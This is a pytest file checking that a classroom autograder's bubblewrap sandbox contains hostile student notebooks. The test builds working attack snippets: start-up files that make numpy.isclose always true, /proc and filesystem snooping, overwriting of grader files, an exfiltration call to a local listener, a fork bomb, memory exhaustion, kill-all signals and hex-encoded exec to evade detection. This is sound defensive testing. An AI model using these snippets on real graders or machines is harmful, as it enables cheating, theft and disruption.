"""Students who attack the machine, the grader and each other, graded in the default bwrap sandbox.

A probe runs a hostile notebook straight in a sandbox and bring back what its code saw and
managed: the start-up files it tried to plant (site-packages, ``sitecustomize``,
``usercustomize``), the grader's files it looked for (``/`` walked, ``/proc`` command lines and
environments, literal paths of the autograder zip, a classmate's notebook and the sheet), the
network (a listener this test starts on 127.0.0.1), the process, memory and file limits (a fork
bomb, a 5 GB allocation, a file past the size limit, a full /tmp), and signals to every process
it can see and to the grader's pid. Then one batch through ``opcc-edu assignments grade``
grades, beside the controls (the solution, a blank notebook, a prepared wrong answer), the same
attacks hidden from a word search (hex-encoded and run through ``exec``: start-up files, copying
a classmate's cells, rewriting the teacher's files, the network, killing, a fork bomb and a
5 GB allocation), nbformat 3 notebooks (one hiding code outside its worksheets), symbolic
links, a pipe and a duplicate: every honest score stays honest, every attack gets its own
honest score and a review flag, every student has rows, and nothing is left behind.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import sysconfig
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest

pytest.importorskip("otter", reason="the 'teach' extra (otter-grader) is not installed")

from opcc_edu.classroom import isolation, runner  # noqa: E402
from opcc_edu.classroom.isolation import acquire_uid, processes_of  # noqa: E402
from opcc_edu.classroom.review import review_flags  # noqa: E402
from opcc_edu.classroom.sandbox import Limits, Sandbox  # noqa: E402
from opcc_edu.classroom.sheet import read_grades  # noqa: E402
from opcc_edu.classroom.teaching import question_points  # noqa: E402
from opcc_edu.cli import main  # noqa: E402

NAME = "risk_coverage_metrics"


class Listener:
    """A TCP server on 127.0.0.1 that records every byte it receives."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.server.accept()
            except OSError:
                continue
            self.connections += 1
            with conn:
                conn.settimeout(2)
                try:
                    self.received += conn.recv(65536)
                except OSError:
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


@pytest.fixture()
def listener():
    server = Listener()
    yield server
    server.close()


def _hidden(code: str) -> str:
    """``code`` as a word search cannot see it: hex, decoded and run through exec."""
    return f"exec(bytes.fromhex({code.encode().hex()!r}).decode())"


def _startup_code() -> str:
    """Plant start-up files wherever Python or IPython would read them; return where it worked."""
    return (
        "import os, site, sysconfig\n"
        "_payload = 'import numpy\\nnumpy.isclose = lambda *a, **k: True\\nnumpy.allclose = numpy.isclose\\n'\n"
        "_folders = {sysconfig.get_paths()['purelib'], sysconfig.get_paths()['stdlib'], site.getusersitepackages(),\n"
        "            os.path.expanduser('~'), os.path.join(os.environ.get('IPYTHONDIR', '~'), 'profile_default',\n"
        "            'startup')}\n"
        "planted = []\n"
        "for _folder in sorted(_folders):\n"
        "    for _name in ('zz_attack.pth', 'sitecustomize.py', 'usercustomize.py', '00-attack.py'):\n"
        "        try:\n"
        "            os.makedirs(_folder, exist_ok=True)\n"
        "            _line = 'import numpy; numpy.isclose = lambda *a, **k: True'\n"
        "            _text = _line if _name.endswith('.pth') else _payload\n"
        "            open(os.path.join(_folder, _name), 'w').write(_text)\n"
        "            planted.append(os.path.join(_folder, _name))\n"
        "        except OSError:\n"
        "            pass\n"
    )


def _reach_code(targets: dict[str, str], port: int) -> str:
    """Look for the grader's files and processes, rewrite the teacher's, call the network."""
    return (
        "import os, socket\n"
        "report = {'uid': os.getuid(), 'pid': os.getpid(), 'planted': planted}\n"
        "found = []\n"
        "for folder, dirs, files in os.walk('/'):\n"
        "    if folder in ('/proc', '/sys', '/dev'):\n"
        "        dirs[:] = []\n"
        "        continue\n"
        "    found += [os.path.join(folder, f) for f in files if f.endswith(('.ipynb', '.zip', '.csv', '.json'))]\n"
        "report['found'] = found\n"
        "seen = {}\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        text = ''\n"
        "        for part in ('cmdline', 'environ'):\n"
        "            try:\n"
        "                text += open(f'/proc/{pid}/{part}', 'rb').read().decode(errors='replace') + ' '\n"
        "            except OSError as exc:\n"
        "                text += type(exc).__name__ + ' '\n"
        "        seen[pid] = text\n"
        "report['processes'] = seen\n"
        f"for key, path in {targets!r}.items():\n"
        "    try:\n"
        "        report['read ' + key] = open(path, 'rb').read(64).decode(errors='replace')\n"
        "    except OSError as exc:\n"
        "        report['read ' + key] = type(exc).__name__\n"
        "    try:\n"
        "        open(path, 'wb').write(b'garbage')\n"
        "        report['write ' + key] = 'written'\n"
        "    except OSError as exc:\n"
        "        report['write ' + key] = type(exc).__name__\n"
        "try:\n"
        f"    _s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "    _s.sendall(b'stolen expected values')\n"
        "    _s.close()\n"
        "    report['network'] = 'sent'\n"
        "except OSError as exc:\n"
        "    report['network'] = type(exc).__name__\n"
    )


LIMITS_CODE = """
import errno, os, signal, time
kids = []
try:
    while len(kids) < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(120)
            os._exit(0)
        kids.append(pid)
except OSError as exc:
    report['fork error'] = errno.errorcode[exc.errno]
report['forks'] = len(kids)
for pid in kids:
    os.kill(pid, signal.SIGKILL)
for pid in kids:
    os.waitpid(pid, 0)
for size, key in ((5 * 2**30, 'allocate 5 GB'), (512 * 2**20, 'allocate 512 MB')):
    try:
        block = bytearray(size)
        report[key] = 'allocated'
        del block
    except MemoryError:
        report[key] = 'MemoryError'
try:
    open('/tmp/big', 'wb').write(b'x' * (17 * 2**20))
    report['write 17 MB'] = 'written'
except OSError as exc:
    report['write 17 MB'] = errno.errorcode[exc.errno]
os.remove('/tmp/big')
filled = 0
try:
    for i in range(100):
        with open(f'/tmp/fill{i}', 'wb') as handle:
            handle.write(b'x' * (8 * 2**20))
        filled += 8
except OSError as exc:
    report['fill error'] = errno.errorcode[exc.errno]
report['filled MB'] = filled
"""


def _kill_code(grader_pid: int) -> str:
    return (
        "import os, signal\n"
        "visible = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())\n"
        "kills = {}\n"
        f"for pid in visible + [1, os.getppid(), {grader_pid}]:\n"
        "    if pid != os.getpid():\n"
        "        try:\n"
        "            os.kill(pid, signal.SIGKILL)\n"
        "            kills[str(pid)] = 'sent'\n"
        "        except OSError as exc:\n"
        "            kills[str(pid)] = type(exc).__name__\n"
        "try:\n"
        "    os.kill(-1, signal.SIGKILL)\n"
        "    kills['-1'] = 'sent'\n"
        "except OSError as exc:\n"
        "    kills['-1'] = type(exc).__name__\n"
        "report['visible'] = visible\n"
        "report['kills'] = kills\n"
    )


def _run_in_sandbox(cells: list[str], limits: Limits) -> tuple[dict, int | None]:
    """Run ``cells`` in a bwrap sandbox; (the decoded ``report`` value, the sandbox's uid)."""
    with Sandbox(time.monotonic() + 180, limits, backend="bwrap") as box:
        uid = box.uid
        child = box.start("notebook", {"cells": cells, "values": ["report"]})
        values = None
        while values is None:
            message = child.receive(box.deadline)
            assert isinstance(message, dict), f"the sandbox ended: {message}; stderr: {child.stderr[-500:]}"
            values = message.get("values")
        box.stop(child)
    return runner.decode(values["report"]), uid


def _host_files() -> list[str]:
    """The start-up files an attacker plants, where they exist in the grader's Python and home."""
    import site

    folders = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["stdlib"], site.getusersitepackages()}
    folders |= {str(Path.home()), os.path.join(str(Path.home()), ".ipython", "profile_default", "startup")}
    names = ("zz_attack.pth", "sitecustomize.py", "usercustomize.py", "00-attack.py")
    return sorted(os.path.join(f, n) for f in folders for n in names if os.path.lexists(os.path.join(f, n)))


def test_a_sandboxed_notebook_reaches_nothing_of_the_grader_and_its_limits_bind(
    sandbox, built_risk, tmp_path, listener
):
    zip_path = tmp_path / "course" / "autograder.zip"
    zip_path.parent.mkdir()
    zip_path.write_bytes(built_risk.autograder_zip.read_bytes())
    classmate = tmp_path / "submissions" / "alice.ipynb"
    classmate.parent.mkdir()
    classmate.write_bytes((built_risk.autograder_zip.parent / f"{NAME}.ipynb").read_bytes())
    sheet = tmp_path / "grades.csv"
    sheet.write_text("student,points\nalice,10\n")
    targets = {
        "zip": str(zip_path),
        "classmate": str(classmate),
        "sheet": str(sheet),
        "original zip": str(built_risk.autograder_zip),
    }
    before = {p: Path(p).read_bytes() for p in targets.values()}
    host = _host_files()
    cells = [_startup_code(), _reach_code(targets, listener.port), LIMITS_CODE, _kill_code(os.getpid())]
    limits = Limits(file_mb=16, tmp_mb=64)  # the default memory (4096 MB) and process (128) limits
    report, uid = _run_in_sandbox(cells, limits)

    # who it ran as, and what it could see of the machine
    assert report["uid"] != 0 and report["uid"] != os.getuid() and report["pid"] <= 3, report["pid"]
    assert report["planted"] and all(p.startswith("/tmp/") for p in report["planted"]), report["planted"]
    assert _host_files() == host, "a start-up file reached the grader's Python or home"
    leaks = [f for f in report["found"] if str(tmp_path) in f or f.endswith(("autograder.zip", "grades.csv"))]
    assert not leaks and not [f for f in report["found"] if "opcc/expected" in f], leaks
    assert len(report["processes"]) <= 3, report["processes"]
    shown = " ".join(report["processes"].values())
    assert str(tmp_path) not in shown and "pytest" not in shown and "autograder" not in shown
    for key in targets:
        assert report[f"read {key}"] in ("FileNotFoundError", "PermissionError", "OSError"), report[f"read {key}"]
        assert report[f"write {key}"] != "written", key
    assert {p: Path(p).read_bytes() for p in before} == before
    assert report["network"] != "sent" and listener.connections == 0 and listener.received == b""

    # the limits bind (the uid is not root, so RLIMIT_NPROC counts)
    assert 100 <= report["forks"] < 128 and report["fork error"] == "EAGAIN", report
    assert report["allocate 5 GB"] == "MemoryError" and report["allocate 512 MB"] == "allocated"
    assert report["write 17 MB"] == "EFBIG"
    assert report["filled MB"] <= 64 and report["fill error"] in ("ENOSPC", "EFBIG"), report

    # signals: it sees only its own namespace; the grader (this process) is out of reach
    assert len(report["visible"]) <= 3 and max(report["visible"]) <= 3, report["visible"]
    assert report["kills"][str(os.getpid())] == "ProcessLookupError", report["kills"]
    if uid is not None:
        assert not processes_of(uid), "a process of the sandbox's uid survived it"


def _notebook(base: Path, path: Path, first: str = "", last: str = "") -> Path:
    notebook = nbformat.read(base, as_version=4)
    if first:
        notebook.cells.insert(0, nbformat.v4.new_code_cell(first))
    if last:
        notebook.cells.append(nbformat.v4.new_code_cell(last))
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, path)
    return path


def _version3(base: Path, path: Path, hidden_from: Path | None = None) -> Path:
    """``base``'s cells in an nbformat 3 notebook (one worksheet); with ``hidden_from``, that
    notebook's code cells also sit in a top-level ``cells`` list, where nbformat 3 has none."""
    notebook = nbformat.read(base, as_version=4)
    cells = []
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cells.append(nbformat.v3.new_code_cell(input=cell.source))
        else:
            cells.append(nbformat.v3.new_text_cell("markdown", source=cell.source))
    old = nbformat.v3.new_notebook(worksheets=[nbformat.v3.new_worksheet(cells=cells)])
    data = json.loads(nbformat.writes(old, version=3))
    if hidden_from is not None:
        hidden = nbformat.read(hidden_from, as_version=4)
        data["cells"] = [json.loads(json.dumps(c)) for c in hidden.cells if c.cell_type == "code"]
    path.write_text(json.dumps(data))
    return path


def _wrong(solution: Path, path: Path) -> Path:
    notebook = nbformat.read(solution, as_version=4)
    for cell in notebook.cells:
        cell.source = cell.source.replace("above.sum() / confidence.size**2", "above.sum() / confidence.size")
    nbformat.write(notebook, path)
    return path


def test_one_batch_of_attackers_in_sandboxes_changes_no_grade_and_leaves_nothing(
    sandbox, built_risk, tmp_path, listener, capsys, monkeypatch
):
    solution = built_risk.autograder_zip.parent / f"{NAME}.ipynb"
    blank = built_risk.student_notebook
    subs = tmp_path / "subs"
    subs.mkdir()
    out = tmp_path / "grades.csv"
    zip_path = tmp_path / "autograder.zip"
    zip_path.write_bytes(built_risk.autograder_zip.read_bytes())
    alice = _notebook(solution, subs / "alice.ipynb")
    twin = subs / "twin.ipynb"  # the same bytes under another name, graded last
    copier = (
        "import json\n"
        f"for _cell in json.load(open({str(alice)!r}))['cells']:\n"
        "    if _cell['cell_type'] == 'code':\n"
        "        exec(''.join(_cell['source']))\n"
    )
    rewriter = f"for _p in ({str(twin)!r}, {str(zip_path)!r}, {str(out)!r}):\n    open(_p, 'w').write('{{}}')\n"
    network = (
        "import socket\n"
        f"socket.create_connection(('127.0.0.1', {listener.port}), timeout=3).sendall(b'expected values')\n"
    )
    bomb = "import os, time\nwhile True:\n    os.fork()\n"
    hog = "block = bytearray(5 * 2**30)\n"
    eve = _notebook(blank, subs / "eve.ipynb", last=_hidden(_startup_code()))  # start-up files, then:
    for attack in (copier, rewriter, network):  # a classmate's cells, the teacher's files, the network
        eve = _notebook(eve, eve, last=_hidden(attack))
    submissions = [
        alice,  # control: full marks
        _notebook(blank, subs / "bob.ipynb"),  # control: 0
        eve,
        _wrong(solution, subs / "carol.ipynb"),  # graded after eve: loses q3 only
        _notebook(blank, subs / "kim.ipynb", first=_hidden(_kill_code(os.getpid()))),  # kills what it sees
        _notebook(blank, subs / "bo.ipynb", first=_hidden(hog), last=_hidden(bomb)),  # memory, fork bomb
        _version3(solution, subs / "olga.ipynb"),  # nbformat 3: upgraded, full marks
        _version3(blank, subs / "vic.ipynb", hidden_from=solution),  # code hidden outside the worksheets
    ]
    links = {"lin": alice, "pat": Path("/etc/passwd")}
    for student, target in links.items():
        (subs / f"{student}.ipynb").symlink_to(target)
        submissions.append(subs / f"{student}.ipynb")
    os.mkfifo(subs / "fifi.ipynb")
    submissions.append(subs / "fifi.ipynb")
    twin.write_bytes(alice.read_bytes())
    submissions.append(twin)
    originals = {p: p.read_bytes() for p in (alice, twin, zip_path)}
    host = _host_files()
    private_tmp = tmp_path / "tmp"
    private_tmp.mkdir()
    monkeypatch.setenv("TMPDIR", str(private_tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
    used_uids = []

    def acquire_and_record() -> int:
        used_uids.append(acquire_uid())
        return used_uids[-1]

    monkeypatch.setattr(isolation, "acquire_uid", acquire_and_record)
    argv = ["assignments", "grade", "--assignment", NAME, "--autograder", str(zip_path), "--out", str(out)]
    start = time.monotonic()
    assert main([*argv, "--jobs", "2", "--timeout", "300", *map(str, submissions)]) == 0  # a loaded machine
    elapsed = time.monotonic() - start
    err = capsys.readouterr().err

    assert "isolation: bubblewrap" in err, err
    points = question_points(built_risk.autograder_zip)
    full = sum(points.values())
    rows = read_grades(out)
    assert len(rows) == len(submissions) * len(points), "every student has a row per question"
    by: dict[str, dict] = {}
    for row in rows:
        by.setdefault(row.student, {})[row.question] = row

    def total(student: str) -> float:
        return sum(r.points for r in by[student].values())

    def review(student: str) -> str:
        return next(iter(by[student].values())).review

    def reasons(student: str) -> set[str]:
        return {r.reason for r in by[student].values()}

    assert total("alice") == full and total("bob") == 0, (reasons("alice"), reasons("bob"))
    assert total("carol") == full - points["q3"] and by["carol"]["q3"].points == 0, reasons("carol")  # eve did nothing
    for attacker in ("eve", "kim", "bo"):
        assert total(attacker) == 0, (attacker, by[attacker])
        assert "encoded text" in review(attacker) and "dynamic code" in review(attacker), review(attacker)
    assert total("olga") == full and "nbformat 3 notebook" in review("olga"), reasons("olga")
    assert total("vic") == 0 and "cells outside the worksheets" in review("vic")
    for student in ("lin", "pat"):
        assert total(student) == 0 and reasons(student) == {
            "a symbolic link, not a file: not followed, not graded (submit the notebook itself)"
        }
    assert "root:" not in out.read_text() and reasons("fifi") == {
        "not a regular file (a device, pipe or socket): not read, not graded"
    }
    assert total("twin") == full and "the same file as alice" in review("twin"), reasons("twin")
    assert "the same file as twin" in review("alice")
    assert not review("bob") and not [r for r in review("alice").split("; ") if "same file" not in r]

    assert "changed during grading" not in err, err  # nothing reached the teacher's files
    assert {p: p.read_bytes() for p in originals} == originals
    assert listener.connections == 0 and listener.received == b""
    assert _host_files() == host
    assert not list(private_tmp.iterdir()), list(private_tmp.iterdir())
    assert len(used_uids) == (9 if os.getuid() == 0 else 0), used_uids  # one sandbox per notebook run
    assert not [uid for uid in used_uids if processes_of(uid)], "a sandbox's process survived the batch"
    assert elapsed < 240, f"the batch took {elapsed:.0f} s"


def test_without_a_sandbox_grade_stops_with_one_line(built_risk, tmp_path, capsys, monkeypatch):
    import opcc_edu.classroom.isolation as isolation

    monkeypatch.setattr(isolation, "bwrap_problem", lambda: "the bwrap command was not found")
    out = tmp_path / "g.csv"
    argv = ["assignments", "grade", "--assignment", NAME, "--autograder", str(built_risk.autograder_zip)]
    assert main([*argv, "--out", str(out), str(tmp_path / "x.ipynb")]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "apt-get install bubblewrap" in err[0] and "--docker" in err[0], err
    assert "--unsafe-local" in err[0] and not out.exists()
    with pytest.raises(ValueError, match="unknown backend 'chroot'; valid choices: bwrap, unsafe-local"):
        isolation.check_backend("chroot")
    with pytest.raises(SystemExit) as stopped:
        main([*argv, "--docker", "--unsafe-local", str(tmp_path / "x.ipynb")])
    assert stopped.value.code == 2 and "not allowed with argument" in capsys.readouterr().err


def test_the_review_reads_every_route_to_the_package(built_risk):
    given = json.loads(built_risk.student_notebook.read_text())
    given_cells = ["".join(c["source"]) for c in given["cells"] if c["cell_type"] == "code"]
    routes = {
        "from opcc_edu.metrics import aurcc": "uses reference functions (opcc_edu.metrics: aurcc)",
        "from opcc_edu import metrics": "uses reference functions (opcc_edu: metrics)",
        "import opcc_edu": "imports opcc_edu",
        "import opcc_edu.baselines as b": "imports opcc_edu.baselines",
        "from opcc_edu.classroom.checks import CHECKS": "grader",
        "m = __import__('opcc_edu.metrics')": "uses reference functions (opcc_edu.metrics)",
        "import importlib\nm = importlib.import_module(name)": "dynamic code (import_module of a computed name)",
        "f = getattr(module, 'au' + 'rcc')": "dynamic code (getattr of a computed name)",
        "exec(text)": "dynamic code (exec of computed text)",
        "exec('from opcc_edu import mdp')": "imports opcc_edu.mdp",
        "code = compile(source, 'x', 'exec')": "dynamic code (compile of computed text)",
        "blob = '" + "696d706f7274206f70636320" * 4 + "'": "encoded text (a long hex or base64 string)",
        "blob = 'aW1wb3J0IG9wY2NfZWR1Lm1ldHJpY3MgYXMgbTsgbS5hdXJjYyguLi4pICMgaGlkZGVu'": "encoded text",
    }
    for code, flag in routes.items():
        flags = review_flags([*given_cells, code], given_cells, NAME)
        assert any(f.startswith(flag) for f in flags), (code, flags)
    # the handed-out cells' own imports, and plain code, are not flagged
    imported = [c for c in given_cells if "from opcc_edu" in c]
    assert review_flags([*given_cells, *(c + "\nx = 1" for c in imported)], given_cells, NAME) == []
    assert review_flags(["import numpy as np\nx = getattr(np, 'mean')([1, 2])"], given_cells, NAME) == []


if sys.platform != "linux":  # bubblewrap is Linux's
    pytestmark = pytest.mark.skip(reason="bwrap sandboxes need Linux")
